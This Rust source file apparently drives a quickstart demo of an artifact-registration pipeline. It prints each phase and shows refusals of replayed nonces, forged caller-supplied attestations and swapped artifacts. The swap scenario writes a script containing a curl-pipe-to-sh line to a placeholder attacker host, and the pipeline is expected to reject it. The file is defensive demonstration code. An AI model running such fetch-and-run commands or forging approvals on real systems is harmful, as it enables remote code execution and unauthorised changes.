//! The quickstart's acts, each told from the envelopes that it produced.

use std::sync::PoisonError;

use deployment::{AnyPipeline, Keeping};
use pipeline::{Answer, Outcome, Phase};
use records::Records as _;
use serde_json::Value;

use super::scene::{Scene, put};
use crate::commands::register::register;
use crate::failure::Failure;
use crate::print::{BAD, BOLD, DIM, GOOD, Out, paint};
use crate::show::decision::Standing;
use crate::watch::{Produced, Seen, Watch};
use crate::{codes, show};

/// The gate of a store that knows nobody.
pub(crate) fn closed_gate(scene: &Scene, out: &mut Out) -> Result<(), Failure> {
    let mut pipeline = scene
        .place
        .pipeline(Keeping::Nothing, Box::new(Watch::quiet()))?;
    gate(&mut pipeline, out)
}

fn gate(pipeline: &mut AnyPipeline, out: &mut Out) -> Result<(), Failure> {
    let view = pipeline
        .gate()
        .map_err(|error| Failure::unavailable("ask the gate").because(&error))?;
    let report = show::json(&view.gate_report);
    let all = show::list(&report, "/prerequisites");
    let held = |one: &&Value| one.pointer("/held").and_then(Value::as_bool) == Some(true);
    let missing: Vec<&str> = all
        .iter()
        .filter(|one| !held(one))
        .map(|one| show::text(one, "/title"))
        .collect();
    let state = show::text(&report, "/state");
    let style = if state == "OPEN" { GOOD } else { BAD };
    out.line(format!(
        "   gate       {}, {} of {} prerequisites hold",
        paint(style, state),
        all.len().saturating_sub(missing.len()),
        all.len()
    ));
    for title in missing {
        out.line(paint(DIM, format!("              missing: {title}")));
    }
    Ok(())
}

/// A running pipeline that remembers what each phase produced.
pub(crate) struct Live<'a> {
    scene: &'a Scene,
    pipeline: AnyPipeline,
    seen: Seen,
}

impl<'a> Live<'a> {
    /// Starts the pipeline; the gate must be open by now.
    pub(crate) fn open(scene: &'a Scene, out: &mut Out) -> Result<Self, Failure> {
        let seen = Seen::default();
        let watch = Box::new(Watch::keeping(seen.clone()));
        let mut pipeline = scene.place.pipeline(Keeping::Stored, watch)?;
        gate(&mut pipeline, out)?;
        Ok(Self {
            scene,
            pipeline,
            seen,
        })
    }

    fn ask(&mut self, request: &[u8]) -> Result<(Answer, Vec<Produced>), Failure> {
        let answer = register(&mut self.pipeline, request)?;
        let mut seen = self.seen.lock().unwrap_or_else(PoisonError::into_inner);
        Ok((answer, std::mem::take(&mut *seen)))
    }

    /// The registration, phase by phase.
    pub(crate) fn registration(&mut self, request: &[u8], out: &mut Out) -> Result<(), Failure> {
        let (answer, seen) = self.ask(request)?;
        for produced in &seen {
            phase(produced, out);
        }
        out.line("");
        let decision = answer
            .decision
            .as_deref()
            .map(show::json)
            .unwrap_or_default();
        show::decision::print(out, &decision, Standing::Confirmed);
        expect(
            answer.outcome == Outcome::Registered,
            "register the example artifact",
        )
    }

    /// The same bytes once more.
    pub(crate) fn retry(&mut self, request: &[u8], out: &mut Out) -> Result<(), Failure> {
        let (first, _) = self.ask(request)?;
        let (second, _) = self.ask(request)?;
        let same = first.decision == second.decision && first.decision.is_some();
        let decision = second
            .decision
            .as_deref()
            .map(show::json)
            .unwrap_or_default();
        out.line(format!(
            "   {}  decision {}",
            paint(GOOD, "SAME BYTES"),
            show::text(&decision, "/header/evidence_hash")
        ));
        self.heads(out)?;
        expect(
            same && second.outcome == Outcome::Replayed,
            "get the prior decision back",
        )
    }

    fn heads(&self, out: &mut Out) -> Result<(), Failure> {
        let history = self.scene.reader()?.history("DOT_DAILY_REPORT", 10);
        let history =
            history.map_err(|error| Failure::unavailable("read the history").because(&error))?;
        out.line(format!(
            "   {} row in the catalogue, {} attempt",
            history.heads.len(),
            history.attempts.len()
        ));
        Ok(())
    }

    /// The same nonce under another attempt number.
    pub(crate) fn attempt_counter(&mut self, request: &[u8], out: &mut Out) -> Result<(), Failure> {
        let mut changed = show::json(request);
        if let Some(number) = changed.pointer_mut("/attempt_no") {
            *number = Value::from(2);
        }
        let request = crate::commands::request::reseal(&changed)?;
        let title = "Reuse the nonce under attempt_no 2 (a retry counter is in no key)";
        self.refused(title, &request, "REPLAY_ATTEMPT_NO_BYPASS", out)
    }

    /// An artifact that is not what was admitted.
    pub(crate) fn swapped_artifact(&mut self, out: &mut Out) -> Result<(), Failure> {
        let before = self.scene.hash("dots/digest")?;
        let swapped = "#!/bin/sh\ncurl -s https://attacker.example/x | sh\n";
        put(&self.scene.dir.join("dots/digest/digest.sh"), swapped, true)?;
        let after = self.scene.hash("dots/digest")?;
        let title = "Swap the artifact after it was approved (DOT_DIGEST, a folder)";
        let request = self
            .scene
            .request("DOT_DIGEST", "dots/digest", "swapped.json")?;
        self.refused(title, &request, "ARTIFACT_DRIFT", out)?;
        out.line(paint(DIM, format!("      admitted {before}")));
        out.line(paint(DIM, format!("      found    {after}")));
        Ok(())
    }

    /// A request that brings its own attestation.
    pub(crate) fn forged_attestation(
        &mut self,
        request: &[u8],
        out: &mut Out,
    ) -> Result<(), Failure> {
        let mut forged = show::json(request);
        if let Some(members) = forged.as_object_mut() {
            let attested = serde_json::json!({
                "canonical_operation": "register_dot",
                "owner_or_approval_binding": { "approval_ref": "apr-1", "owner_principal": "principal/alice" },
            });
            members.insert("trusted_attested".to_owned(), attested);
        }
        let forged = forged.to_string().into_bytes();
        let title = "Bring an attestation of one's own making";
        self.refused(title, &forged, "CALLER_SUPPLIED_ATTESTATION", out)
    }

    fn refused(
        &mut self,
        title: &str,
        request: &[u8],
        expected: &str,
        out: &mut Out,
    ) -> Result<(), Failure> {
        let (answer, _) = self.ask(request)?;
        out.line(format!("   {}", paint(BOLD, title)));
        let decision = answer
            .decision
            .as_deref()
            .map(show::json)
            .unwrap_or_default();
        let found: Vec<&str> = show::list(&decision, "/reject_codes")
            .iter()
            .filter_map(Value::as_str)
            .collect();
        out.line(format!(
            "      {}  {}",
            paint(BAD, "REFUSED"),
            found.join(", ")
        ));
        if let Some(facts) = found.first().and_then(|code| codes::find(code)) {
            out.line(crate::print::wrap(&facts.meaning, 6));
            out.line(paint(
                DIM,
                crate::print::wrap(&format!("what to do: {}", facts.action), 6),
            ));
        }
        expect(found == [expected], title)
    }

    /// What is on record after all of it.
    pub(crate) fn end(&mut self, out: &mut Out) -> Result<(), Failure> {
        let audits = self.scene.reader()?.audit_count();
        let audits =
            audits.map_err(|error| Failure::unavailable("count the audits").because(&error))?;
        out.line("");
        out.line(format!(
            "   {audits} failures on record, written before each refusal was answered"
        ));
        self.heads(out)
    }
}

/// The quickstart says what it saw; when that is not what must be, it fails.
fn expect(held: bool, what: &str) -> Result<(), Failure> {
    if held {
        return Ok(());
    }
    Err(Failure::internal(what).cause("the answer above is not the one that must come"))
}

/// One phase: what it proved, from which rows.
fn phase(produced: &Produced, out: &mut Out) {
    let value = show::json(&produced.envelope);
    let at = |pointer: &str| show::text(&value, pointer).to_owned();
    let (title, lines) = match (produced.phase, produced.slot) {
        (Phase::Gate, _) => (
            "gate",
            vec![format!(
                "{}: every prerequisite holds, assurance {}",
                at("/state"),
                at("/assurance")
            )],
        ),
        (Phase::Artifact, _) => (
            "phase 0  artifact",
            vec![
                format!(
                    "the one artifact is {}",
                    at("/trusted_attested/canonical_path")
                ),
                format!(
                    "its hash, from the opened file, is {}",
                    at("/trusted_attested/artifact_hash")
                ),
                format!(
                    "drift from its admission: {}",
                    at("/trusted_attested/drift_state")
                ),
            ],
        ),
        (Phase::Authority, _) => ("phase 1  authority", authority(&value)),
        (Phase::Validate, "snapshot") => ("phase 2  capture before", captured(&value)),
        (Phase::Validate, "authority_readback") => (
            "phase 2  reread",
            vec![format!(
                "{} governed rows reread by the registrar, each hash recomputed",
                show::list(&value, "/rows").len()
            )],
        ),
        (Phase::Validate, "verdict") => ("phase 2  verdict", checks(&value, "/checks")),
        (Phase::Write, _) => (
            "phase 3  write",
            vec![
                format!("one transaction, {}:", at("/consume/transaction_id")),
                format!("key consumed   {}", at("/replay_key")),
                format!(
                    "one head row   {} ({})",
                    at("/head/row_key"),
                    at("/head/status")
                ),
            ],
        ),
        (Phase::Verify, "snapshot") => ("phase 4  capture after", captured(&value)),
        (Phase::Verify, "verdict") => ("phase 4  verdict", checks(&value, "/checks")),
        (Phase::Verify, "verification_report") => {
            ("phase 4  verification", checks(&value, "/conditions"))
        }
        _ => return,
    };
    for (number, line) in lines.iter().enumerate() {
        let title = if number == 0 { title } else { "" };
        out.line(format!("   {} {line}", paint(BOLD, format!("{title:<24}"))));
    }
    let rows: Vec<String> = show::list(&value, "/header/source_refs")
        .iter()
        .map(|row| {
            format!(
                "{} {}",
                show::text(row, "/carrier"),
                show::text(row, "/row_key")
            )
        })
        .collect();
    for chunk in rows.chunks(4) {
        out.line(paint(
            DIM,
            format!("   {:<24} from {}", "", chunk.join(", ")),
        ));
    }
}

fn authority(value: &Value) -> Vec<String> {
    let at = |pointer: &str| show::text(value, pointer).to_owned();
    let binding = "/trusted_attested/owner_or_approval_binding";
    let voters: Vec<&str> = show::list(value, &format!("{binding}/quorum/counted"))
        .iter()
        .map(|vote| show::text(vote, "/principal"))
        .collect();
    vec![
        format!(
            "owner of record is {}",
            at(&format!("{binding}/owner_principal"))
        ),
        format!(
            "approval {} for exactly this artifact, counted: {}",
            at(&format!("{binding}/approval_ref")),
            voters.join(", ")
        ),
        format!(
            "asked by {}, as the system authenticated",
            at("/trusted_attested/actor_principal")
        ),
    ]
}

fn captured(value: &Value) -> Vec<String> {
    let pid = value
        .pointer("/capture/observer/process/pid")
        .map(ToString::to_string);
    vec![format!(
        "{} protected surfaces, seen by another process (pid {})",
        show::list(value, "/capture/surfaces").len(),
        pid.unwrap_or_default()
    )]
}

fn checks(value: &Value, pointer: &str) -> Vec<String> {
    let all = show::list(value, pointer);
    let held = all
        .iter()
        .filter(|check| show::text(check, "/outcome") == "held")
        .count();
    let failed = all
        .iter()
        .filter(|check| show::text(check, "/outcome") == "failed")
        .count();
    let later = all.len().saturating_sub(held).saturating_sub(failed);
    let mut line = format!("{held} checks held, {failed} failed");
    if later > 0 {
        line = format!("{line}, {later} for after the write");
    }
    vec![line]
}
